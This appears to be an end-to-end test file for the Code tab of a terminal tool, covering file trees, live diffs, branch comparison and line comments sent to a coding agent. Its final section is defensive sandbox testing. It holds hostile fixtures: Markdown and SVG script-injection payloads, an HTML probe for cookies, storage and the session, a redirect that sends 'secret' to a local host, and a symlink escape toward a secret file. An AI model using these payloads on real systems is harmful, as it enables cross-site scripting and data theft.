// The Code tab on a whole kolu: real repositories, files that change under it, an agent that takes comments, and files that
// try to get out.
import { execFile } from "node:child_process";
import { mkdir, symlink, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import type { Locator, Page } from "playwright-core";
import { expect, test } from "vitest";
import { dockRow, type Visitor } from "./browser.ts";
import { startComposer, takenPrompts } from "./composer-agent.ts";
import { kolu, POLL, shareKolu, visit } from "./shared-kolu.ts";

shareKolu({ keepTerminals: true });

interface Project {
  name: string;
  root: string;
  write(path: string, content: string | Buffer): Promise<void>;
  git(...args: string[]): Promise<void>;
}

/** A repository of its own, with what is given committed on main. */
async function project(name: string, files: Record<string, string | Buffer>): Promise<Project> {
  const root = join(kolu.home, name);
  await mkdir(root);
  const identity = ["-c", "user.name=t", "-c", "user.email=t@t"];
  const made: Project = {
    name,
    root,
    async write(path, content) {
      await mkdir(dirname(join(root, path)), { recursive: true });
      await writeFile(join(root, path), content);
    },
    async git(...args) {
      await promisify(execFile)("git", [...identity, ...args], { cwd: root });
    },
  };
  await made.git("init", "--quiet", "--initial-branch=main");
  for (const [path, content] of Object.entries(files)) await made.write(path, content);
  await made.git("add", ".");
  await made.git("commit", "--quiet", "-m", "first");
  return made;
}

/** A page with the Code tab open on a terminal in this directory. */
async function openCodeTab(name: string, cwd: string): Promise<Visitor> {
  await kolu.ok(["create", "--toplevel", "--intent", name, "--cwd", cwd]);
  const visitor = await visit();
  await showCodeOf(visitor.page, name);
  return visitor;
}

async function showCodeOf(page: Page, name: string): Promise<void> {
  await dockRow(page, name).click();
  if (!(await page.locator(".panel").isVisible())) await page.keyboard.press("Control+Shift+E");
  await page.locator(".code-head").waitFor();
}

const file = (page: Page, name: string): Locator =>
  page.locator(".file-row", { has: page.locator(".file-name", { hasText: new RegExp(`^${name}$`) }) });
const lineOf = (page: Page, text: string): Locator => page.locator(".code-row", { hasText: text });
const names = (page: Page): Promise<string[]> => page.locator(".file-row .file-name").allInnerTexts();
const choose = (page: Page, name: string | RegExp): Promise<void> =>
  page.locator(".segments").getByRole("button", { name }).click();

test("files are a tree with what git says of them; the terminal's own directory is unfolded", async () => {
  const app = await project("tree", {
    "src/app/main.ts": "export const answer: number = 42; // why not\n",
    "docs/guide.md": "# Guide\n",
    "a.txt": "a\n",
  });
  await app.write("src/app/fresh.ts", "new\n");
  await app.write("a.txt", "b\n");
  await using visitor = await openCodeTab("tree", join(app.root, "src"));
  const { page, faults } = visitor;
  await expect.poll(() => names(page), POLL).toEqual(["docs", "src", "app", "a.txt"]);
  expect(await file(page, "a.txt").getAttribute("aria-label")).toBe("a.txt, modified");
  expect(await file(page, "app").getAttribute("aria-label")).toBe("app, has changes");
  await file(page, "app").click();
  expect(await file(page, "fresh.ts").getAttribute("aria-label")).toBe("fresh.ts, untracked");

  // By keyboard: down to the file, open it; it is coloured and has its numbers.
  await page.keyboard.press("Tab");
  await page.getByRole("tree").focus();
  for (const key of ["ArrowDown", "ArrowDown", "Enter"]) await page.keyboard.press(key);
  await lineOf(page, "answer").locator("[data-role=keyword]").first().waitFor();
  expect(await page.locator(".viewer .file-name").textContent()).toBe("main.ts");
  expect(await page.locator(".code-row").first().locator(".code-numbers").textContent()).toBe("1");

  await page.getByRole("searchbox").fill("guide");
  await expect.poll(() => names(page), POLL).toEqual(["guide.md"]);
  expect(faults).toEqual([]);
});

test("changes show as they are made: in the tree, in the list, in an open difference", async () => {
  const app = await project("live", { "one.ts": "const one = 1;\n", "two.ts": "const two = 2;\n" });
  await using visitor = await openCodeTab("live", app.root);
  const { page, faults } = visitor;
  await file(page, "one.ts").click();
  await lineOf(page, "const one = 1;").waitFor();
  // The open file follows the disk.
  await app.write("one.ts", "const one = 11;\n");
  await lineOf(page, "const one = 11;").waitFor();
  await page.locator(".segment-count", { hasText: "1" }).waitFor();
  // What is shown is not drawn anew because something else changed.
  const token = page.locator(".code-row [data-role]").first();
  await token.evaluate((element) => element.setAttribute("data-kept", ""));
  await app.write("two.ts", "const two = 22;\n");
  await page.locator(".segment-count", { hasText: "2" }).waitFor();
  await app.write("two.ts", "const two = 2;\n");
  await page.locator(".segment-count", { hasText: "1" }).waitFor();
  expect(await page.locator("[data-kept]").count()).toBe(1);
  await choose(page, "Uncommitted");
  await page.locator('.code-row[data-kind="added"]', { hasText: "const one = 11;" }).waitFor();
  await page.locator('.code-row[data-kind="removed"]', { hasText: "const one = 1;" }).waitFor();
  await app.write("one.ts", "const one = 111;\n");
  await page.locator('.code-row[data-kind="added"]', { hasText: "const one = 111;" }).waitFor();
  await app.write("three.ts", "const three = 3;\n");
  await expect.poll(() => names(page), POLL).toEqual(["one.ts", "three.ts"]);
  // Its own agent, or a person in the shell, commits.
  await app.git("add", ".");
  await app.git("commit", "--quiet", "-m", "second");
  await page.getByText("Nothing that is not committed.").waitFor();
  await choose(page, "Files");
  await expect.poll(() => names(page), POLL).toEqual(["one.ts", "three.ts", "two.ts"]);
  expect(faults).toEqual([]);
});

test("a branch is compared with where it left origin's default branch", async () => {
  const app = await project("branch", { "one.ts": "const one = 1;\n" });
  await using visitor = await openCodeTab("branch", app.root);
  const { page, faults } = visitor;
  await choose(page, "Branch");
  await page.getByText("There is no origin to compare this branch with.").waitFor();
  await app.git("remote", "add", "origin", app.root);
  await app.git("update-ref", "refs/remotes/origin/main", "HEAD");
  await app.git("checkout", "--quiet", "-b", "work");
  await app.write("one.ts", "const one = 2;\n");
  await app.git("commit", "--quiet", "-am", "second");
  await file(page, "one.ts").click();
  await page.locator('.code-row[data-kind="added"]', { hasText: "const one = 2;" }).waitFor();
  await page.locator(".viewer-note", { hasText: "+1 −1 against where the branch began" }).waitFor();
  await page.locator(".viewer-note", { hasText: "Since origin/main at" }).waitFor();
  expect(faults).toEqual([]);
});

test("comments on lines are kept, and go to the agent as one prompt", async () => {
  const app = await project("comments", {
    "src/tax.ts": "const rate = 0.19;\nconst tax = (c) => c * rate;\nexport { tax };\n",
    "b.ts": "const b = 1;\n",
  });
  await app.write("src/tax.ts", "const rate = 0.2;\nconst tax = (c) => c * rate;\nexport { tax };\n");
  const { log } = await startComposer(kolu, "commented", { cwd: app.root });
  await using visitor = await visit();
  const { page, faults } = visitor;
  await dockRow(page, "main")
    .filter({ has: page.locator('.brand, [data-mark="waiting"]') })
    .first()
    .click();
  await page.keyboard.press("Control+Shift+E");
  await choose(page, "Uncommitted");
  await file(page, "tax.ts").click();
  const numbers = page.locator(".code-row .code-numbers");
  await lineOf(page, "0.2;").waitFor();
  // With the mouse: from the removed line to the one after the added one.
  await numbers.nth(1).hover();
  await page.mouse.down();
  await numbers.nth(3).hover();
  await page.mouse.up();
  await page.getByRole("button", { name: "Comment", exact: true }).click();
  await page.getByLabel("Comment on src/tax.ts:1-2").fill("Who says 20 %?\nAsk first.");
  await page.keyboard.press("Control+Enter");
  await page.getByRole("button", { name: "Send 1 comment" }).waitFor();
  expect(await page.locator(".code-row[data-marked]").count()).toBe(2);

  // With the keyboard, in another file.
  await choose(page, "Files");
  await file(page, "b.ts").click();
  await lineOf(page, "const b").waitFor();
  await page.locator(".code-lines").focus();
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("c");
  await page.getByLabel("Comment on b.ts:1").fill("Unused.");
  await page.getByRole("button", { name: "Add comment" }).click();

  await page.reload();
  await page.getByRole("button", { name: "Show 2 comments" }).click();
  await page.locator(".comment-place", { hasText: "src/tax.ts:1-2" }).click();
  await page.locator(".code-row[data-selected]", { hasText: "const rate = 0.2;" }).waitFor();
  await page.getByRole("button", { name: "Send 2 comments" }).click();
  await page.locator('.receipt[data-outcome="done"]', { hasText: "Accepted: Claude Code has it" }).waitFor();
  expect(await page.locator(".comment-place").count()).toBe(0);
  expect(await takenPrompts(log)).toEqual([
    [
      "2 comments on the code. Please address each of them.",
      "1. b.ts:1\n> const b = 1;\nUnused.",
      "2. src/tax.ts:1-2\n> - const rate = 0.19;\n> + const rate = 0.2;\n>   const tax = (c) => c * rate;\nWho says 20 %?\nAsk first.",
    ].join("\n\n"),
  ]);
  expect(faults).toEqual([]);
});

test("what the agent does not take stays collected, and says why", async () => {
  const app = await project("draft", { "a.ts": "const a = 1;\n" });
  const { id } = await startComposer(kolu, "drafting", { cwd: app.root });
  // Somebody's draft stands there: nothing is merged with it.
  await kolu.ok(["send", id, "half a thought"]);
  await using visitor = await openCodeTab("draft", app.root);
  const { page } = visitor;
  await file(page, "a.ts").click();
  await page.locator(".code-row .code-numbers").first().click();
  await page.getByRole("button", { name: "Comment", exact: true }).click();
  await page.getByLabel("Comment on a.ts:1").fill("Not now");
  await page.getByRole("button", { name: "Add comment" }).click();
  // A shell takes no comments.
  await page.getByText("No agent runs in this terminal.").waitFor();
  expect(await page.getByRole("button", { name: "Send 1 comment" }).isDisabled()).toBe(true);
  await page.locator(".dock-card", { hasText: "draft" }).locator(".dock-row", { hasText: "main" }).click();
  await page.getByRole("button", { name: "Send 1 comment" }).click();
  await page.locator('.receipt[data-outcome="attention"]', { hasText: "Not sent." }).waitFor();
  await page.getByRole("button", { name: "Send 1 comment" }).waitFor();
});

test("a long file draws what can be seen, and shows its end at once", async () => {
  const lines = Array.from({ length: 20_000 }, (_, at) => `const line${at + 1} = ${at};`);
  const app = await project("long", { "long.ts": `${lines.join("\n")}\n` });
  await using visitor = await openCodeTab("long", app.root);
  const { page, faults } = visitor;
  await file(page, "long.ts").click();
  await lineOf(page, "const line1 =").waitFor();
  expect(await page.locator(".code-row").count()).toBeLessThan(200);
  await page.locator(".code-lines").evaluate((element) => {
    element.scrollTop = element.scrollHeight;
  });
  await lineOf(page, "const line20000 = 19999;").waitFor();
  expect(await page.locator(".code-row").count()).toBeLessThan(200);
  expect(faults).toEqual([]);
});

test("what cannot be shown is said as such", async () => {
  const app = await project("odd", {
    "data.bin": Buffer.from([1, 0, 2, 0, 3]),
    "empty.txt": "",
    "huge.txt": "0123456789abcdef\n".repeat(70_000),
    "paper.pdf": Buffer.from("%PDF-1.4\0"),
  });
  await using visitor = await openCodeTab("odd", app.root);
  const { page, faults } = visitor;
  await file(page, "data.bin").click();
  await page.getByText("data.bin is a binary file").waitFor();
  const saving = page.waitForEvent("download");
  await page.getByRole("button", { name: "Save a copy" }).click();
  expect((await saving).suggestedFilename()).toBe("data.bin");
  await file(page, "empty.txt").click();
  await page.getByText("The file is empty.").waitFor();
  await file(page, "huge.txt").click();
  await page.getByText("Only the first 1 MiB of this file is shown.").waitFor();
  await file(page, "paper.pdf").click();
  await page.getByText("paper.pdf is not shown in the page.").waitFor();
  await app.write("data.bin", Buffer.from([4, 0]));
  await choose(page, "Uncommitted");
  await file(page, "data.bin").click();
  await page.getByText("A binary file: its difference cannot be shown.").waitFor();
  expect(faults).toEqual([]);
});

test("outside of a repository each directory is listed when it is unfolded", async () => {
  const root = join(kolu.home, "plain");
  await mkdir(join(root, "deep", "deeper"), { recursive: true });
  await writeFile(join(root, "deep", "deeper", "note.txt"), "found\n");
  await using visitor = await openCodeTab("plain", root);
  const { page, faults } = visitor;
  await expect.poll(() => names(page), POLL).toEqual(["deep"]);
  expect(await page.getByRole("button", { name: "Uncommitted" }).count()).toBe(0);
  await file(page, "deep").click();
  await file(page, "deeper").click();
  await file(page, "note.txt").click();
  await lineOf(page, "found").waitFor();
  await writeFile(join(root, "late.txt"), "");
  await file(page, "late.txt").waitFor();
  expect(faults).toEqual([]);
});

// ---- nothing of a repository runs in the page's origin, and nothing outside of a project is shown

test("Markdown is rendered, and a script or a picture in it is text", async () => {
  const app = await project("markdown", {
    "evil.md":
      "# Title\n\n**bold**\n\n<script>window.owned = 1</script>\n\n<img src=x onerror='window.owned = 2'>\n\n[run](javascript:window.owned=3)\n\n![pixel](http://127.0.0.1:9/pixel.png)\n",
  });
  await using visitor = await openCodeTab("markdown", app.root);
  const { page, faults } = visitor;
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await file(page, "evil.md").click();
  await page.locator(".rendered strong", { hasText: "bold" }).waitFor();
  expect(await page.locator(".rendered").locator("script, img, iframe").count()).toBe(0);
  expect(await page.locator(".rendered a").count()).toBe(1);
  expect(await page.locator(".rendered a[href^='http']").getAttribute("rel")).toContain("noopener");
  expect(await page.evaluate(() => (window as { owned?: number }).owned)).toBeUndefined();
  expect(asked.filter((url) => url.includes("pixel"))).toEqual([]);
  expect(faults).toEqual([]);
  await choose(page, "Text");
  await lineOf(page, "<script>window.owned = 1</script>").waitFor();
});

test("HTML is still until its scripts are let run, and then it reaches neither kolu nor the network", async () => {
  const probe = `<!doctype html><h1>Report</h1><pre id=out></pre><script>
    const out = [];
    const attempt = async (name, work) => {
      try { await work(); out.push(name + " WORKED"); } catch { out.push(name + " refused"); }
    };
    (async () => {
      await attempt("parent", () => parent.document.title);
      await attempt("top", () => top.location.href);
      await attempt("cookie", () => document.cookie);
      await attempt("storage", () => localStorage.length);
      await attempt("session", async () => { if (!(await fetch("/session")).ok) throw 0; });
      await attempt("network", () => fetch("http://127.0.0.1:9/"));
      await attempt("socket", () => new Promise((yes, no) => {
        const socket = new WebSocket(location.origin.replace("http", "ws") + "/rpc");
        socket.onopen = yes; socket.onerror = no;
      }));
      document.getElementById("out").textContent = out.join("\\n") + "\\norigin " + origin;
    })();
  </script>`;
  const app = await project("html", {
    "report.html": probe,
    "leave.html": `<script>location.href = "http://127.0.0.1:9/?" + "secret"</script>`,
  });
  await using visitor = await openCodeTab("html", app.root);
  const { page } = visitor;
  await file(page, "report.html").click();
  await choose(page, "Preview");
  const still = page.frameLocator("iframe.preview");
  await still.locator("h1", { hasText: "Report" }).waitFor();
  expect(await still.locator("#out").textContent()).toBe("");
  await page.getByRole("button", { name: "Run its scripts" }).click();
  await still.locator("#out", { hasText: "origin" }).waitFor();
  expect((await still.locator("#out").textContent())!.split("\n")).toEqual([
    "parent refused",
    "top refused",
    "cookie refused",
    "storage refused",
    "session refused",
    "network refused",
    "socket refused",
    "origin null",
  ]);
  // A script that leads its frame away gets nowhere, and the page stays.
  const left: string[] = [];
  page.on("request", (request) => left.push(request.url()));
  await file(page, "leave.html").click();
  const refused = page.waitForEvent("console", (message) => message.text().includes("frame-src"));
  await choose(page, "Preview");
  await page.getByRole("button", { name: "Run its scripts" }).click();
  await refused;
  expect(left.filter((url) => url.includes("secret"))).toEqual([]);
  await page.locator(".code-head").waitFor();
});

test("a picture is drawn as a picture: a script in it does not run", async () => {
  const app = await project("picture", {
    "logo.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="top.owned = 1"><script>top.owned = 2</script><rect width="40" height="30" fill="red"/></svg>`,
  });
  await using visitor = await openCodeTab("picture", app.root);
  const { page, faults } = visitor;
  await file(page, "logo.svg").click();
  await page.locator(".viewer-note", { hasText: "40 × 30" }).waitFor();
  expect(await page.evaluate(() => (window as { owned?: number }).owned)).toBeUndefined();
  expect(faults).toEqual([]);
});

test("a link out of the project is not followed, and says so", async () => {
  await writeFile(join(kolu.home, "secret.txt"), "top secret\n");
  const app = await project("links", { "a.txt": "a\n" });
  await symlink(join(kolu.home, "secret.txt"), join(app.root, "leak.txt"));
  await symlink("a.txt", join(app.root, "inside.txt"));
  await using visitor = await openCodeTab("links", app.root);
  const { page, faults } = visitor;
  await file(page, "leak.txt").click();
  await page.getByText("leak.txt is outside of what may be read").waitFor();
  await file(page, "inside.txt").click();
  await lineOf(page, "a").waitFor();
  expect(await page.getByText("top secret").count()).toBe(0);
  expect(faults).toEqual([]);
});
